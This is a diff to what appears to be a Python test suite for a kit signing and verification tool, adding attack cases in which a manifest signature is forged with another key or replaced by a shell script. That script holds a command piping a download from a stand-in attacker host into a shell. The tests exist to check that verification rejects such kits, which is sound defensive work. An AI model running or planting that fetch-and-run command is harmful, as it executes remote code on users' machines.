@@ -52,3 +52,30 @@ def render_site_of_a_kit_signed_by_another_key(w: Workbench) -> Argv:
     argv = list(_render(w, w.kit()))
     argv[argv.index("--trust") + 1] = w.other_key.public
     return argv
+
+
+# --- MANIFEST.json.sig: unlisted, so it must verify or the kit does not -----------------------
+
+
+def _sig_by(w: Workbench, private: Path) -> Path:
+    from tests.conftest import run_k3kit
+
+    kit = w.kit()
+    proc = run_k3kit("sshsig", kit, "--key", private, "--force")
+    assert proc.returncode == 0, proc.stderr
+    return kit
+
+
+@attack("SSHSIG_INVALID")
+def install_kit_folder_with_manifest_sig_forged_by_another_key(w: Workbench) -> Argv:
+    """The attacker signs the genuine MANIFEST.json with their own key and ships the .sig along:
+    it would ride into the installed kit as if it were the publisher's."""
+    kit = _sig_by(w, w.other_key.private)
+    return ["install", kit, "--trust", w.trust, "--into", w.root / "kits"]
+
+
+@attack("SSHSIG_INVALID")
+def verify_kit_with_a_script_in_place_of_manifest_sig(w: Workbench) -> Argv:
+    kit = w.kit()
+    (kit / "MANIFEST.json.sig").write_text("#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
+    return ["verify", kit, "--trust", w.trust]
